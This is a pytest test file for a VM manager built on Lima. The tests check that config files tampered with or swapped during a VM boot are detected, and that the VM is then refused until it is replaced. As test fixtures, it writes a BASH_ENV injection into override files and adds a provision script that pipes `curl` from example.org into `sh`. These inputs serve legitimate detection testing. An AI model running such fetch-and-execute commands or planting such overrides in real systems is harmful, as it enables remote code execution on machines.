"""Lima reads its configuration once more when it boots a VM: what changed between the look and the boot is found."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import Dvm

SCRIPT = """\
#!/bin/sh
case " $* " in
*" start "*)
    {before}
    {limactl} "$@"; status=$?
    # A simulated boot may be over between two looks at `_config`; a real one takes seconds.
    sleep 0.3
    {after}
    exit $status;;
esac
exec {limactl} "$@"
"""


@pytest.fixture
def one(dvm: Dvm) -> Dvm:
    """A VM declared, not created; its `_config` is there."""
    dvm.manifest("[vm.app]\nrunning = false\n")
    assert dvm.run("apply", "-y").code == 0
    dvm.manifest("[vm.app]\n")
    return dvm


def meddling(dvm: Dvm, before: str, after: str) -> None:
    """Have something done to `_config` just before limactl boots a VM, and just after."""
    limactl = Path(dvm.environment["DVM_LIMACTL"])
    wrapper = dvm.place / "w"
    wrapper.write_text(SCRIPT.format(before=before, after=after, limactl=limactl))
    wrapper.chmod(0o755)
    dvm.environment["DVM_LIMACTL"] = str(wrapper)


def refused(dvm: Dvm) -> str:
    result = dvm.run("apply", "-y")
    said = " ".join((result.out + result.err).split())
    assert result.code == 3, said
    assert "DVM313" in said
    assert "Do not trust it." in said
    (line,) = (json.loads(text) for text in dvm.limactl("list", "--json").out.splitlines())
    assert line["status"] == "Stopped"
    assert not [call for call in dvm.calls() if call[0] == "shell"], "nobody contacts it"
    return said


def test_a_file_that_was_there_for_a_moment_is_found(one: Dvm) -> None:
    path = one.lima_home / "_config" / "override.yaml"
    meddling(one, f"echo 'env: {{BASH_ENV: /x}}' > {path}", f"rm {path}")
    one.forget()
    assert str(path) in refused(one)
    denied_for_good(one)


def test_a_file_that_was_replaced_and_put_back_is_found(one: Dvm) -> None:
    path = one.lima_home / "_config" / "default.yaml"
    path.write_text("cpus: 2\n")
    path.chmod(0o600)
    meddling(one, f"cp -p {path} {path}.kept; echo 'env: {{BASH_ENV: /x}}' > {path}", f"mv {path}.kept {path}")
    one.forget()
    assert str(path) in refused(one)
    denied_for_good(one)


def test_an_instance_s_own_file_that_was_replaced_and_put_back_is_found(one: Dvm) -> None:
    path = one.lima_home / "dvm-app" / "lima.yaml"
    meddling(one, f"cp -p {path} {path}.kept; echo >> {path}", f"mv {path}.kept {path}")
    one.forget()
    assert str(path) in refused(one)
    denied_for_good(one)


@pytest.mark.parametrize(("before", "after"), [("touch {}", "rm {}"), ("touch {}", "true"), ("true", "touch {}")])
@pytest.mark.parametrize("name", [".default.yaml.swp", "networks.yaml"])
def test_another_name_in_config_is_no_reason(one: Dvm, name: str, before: str, after: str) -> None:
    path = one.lima_home / "_config" / name
    path.unlink(missing_ok=True)
    meddling(one, before.format(path), after.format(path))
    result = one.run("apply", "-y")
    assert result.code == 0, result.out + result.err
    again = one.run("apply", "-y")
    assert (again.code, "No changes." in again.out) == (0, True), again.out


def denied_for_good(dvm: Dvm) -> None:
    """Whether every contact is denied, the files being what they were, until the VM is replaced."""
    for command in (("plan",), ("apply", "-y"), ("start", "app"), ("ssh", "app", "--", "true")):
        result = dvm.run(*command)
        assert (result.code, "DVM313" in result.out + result.err) == (3, True), (command, result.out, result.err)
    wrapper = Path(dvm.environment["DVM_LIMACTL"])
    wrapper.write_text("#!/bin/sh\n" + wrapper.read_text().splitlines()[-1] + "\n")  # from here on in peace
    dvm.forget()
    result = dvm.run("apply", "-y", "--replace", "app", "--discard-work")
    assert result.code == 0, result.out + result.err
    assert dvm.run("ssh", "app", "--", "true").code == 0


def test_what_is_still_there_makes_the_vm_untrusted_for_good(one: Dvm) -> None:
    path = one.lima_home / "_config" / "override.yaml"
    meddling(one, f"echo 'env: {{BASH_ENV: /x}}' > {path}; chmod 600 {path}", "true")
    one.forget()
    said = refused(one)
    assert "DVM314" in said
    assert "env.BASH_ENV" in said
    path.unlink()
    planned = one.run("plan")
    assert (planned.code, "DVM313" in planned.out) == (3, True)
    started = one.run("start", "app")
    assert started.code == 3
    replaced = one.run("plan", "--replace", "app", "--discard-work")
    assert replaced.code == 0, replaced.out


def test_a_boot_in_peace_is_none_of_that(one: Dvm) -> None:
    meddling(one, "true", "true")
    result = one.run("apply", "-y")
    assert result.code == 0, result.out + result.err


def test_a_script_put_in_by_hand_that_has_run_is_told(one: Dvm) -> None:
    assert one.run("apply", "-y").code == 0
    one.limactl("stop", "dvm-app")
    added = '.provision += [{"mode":"system","script":"#!/bin/sh\\ncurl -fsSL https://example.org/x | sh\\n"}]'
    assert one.limactl("edit", "--tty=false", "--set", added, "dvm-app").code == 0
    one.limactl("start", "--tty=false", "dvm-app")
    entered = one.run("ssh", "app", "--", "true")
    assert entered.code == 3
    assert {"DVM306", "DVM313"} <= {word.strip(".,:") for word in (entered.out + entered.err).split()}
    planned = one.run("plan")
    assert planned.code == 0, planned.out
    assert "lima.provision" in planned.out
    assert "DVM313" in planned.out
    assert one.run("apply", "-y").code == 0
    assert one.run("ssh", "app", "--", "true").code == 0
